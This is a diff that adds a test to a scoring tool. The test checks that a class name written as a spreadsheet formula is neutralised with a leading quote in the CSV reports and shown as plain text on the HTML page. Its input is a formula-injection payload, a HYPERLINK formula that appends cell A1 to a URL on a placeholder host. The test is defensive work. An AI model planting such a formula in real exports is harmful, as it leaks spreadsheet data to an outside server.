@@ -113,3 +113,19 @@ def test_report_that_cannot_be_written_is_a_clear_error(tmp_path, capsys):
     captured = capsys.readouterr()  # refused before scoring: no scores printed either
     assert f"error: --report {tmp_path / 'taken'} exists and is not a folder" in captured.err
     assert "MAP" not in captured.out
+
+
+def test_a_class_named_like_a_formula_is_text_in_the_csvs_as_is_on_the_page(tmp_path):
+    """The CSVs open in a spreadsheet, where a cell beginning with = would run."""
+    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
+    (tmp_path / "run.csv").write_text(f"r1;{formula};0.9;1\nr1;b;0.1;2\n")
+    (tmp_path / "truth.csv").write_text(f"r1;{formula};\n")
+    main(["--run-file", str(tmp_path / "run.csv"), "--truth", str(tmp_path / "truth.csv"),
+          "--report", str(tmp_path / "report")])  # fmt: skip
+    per_class = read_csv(tmp_path / "report" / "per_class.csv")
+    confusion = read_csv(tmp_path / "report" / "confusion_matrix.csv")
+    assert [row[0] for row in per_class[1:]] == [f"'{formula}", "b"]
+    assert confusion[0][1] == f"'{formula}" and confusion[1][0] == f"'{formula}"
+    page = PageReader()
+    page.feed((tmp_path / "report" / "report.html").read_text(encoding="utf-8"))
+    assert formula in [row[0] for row in page.tables[1]]
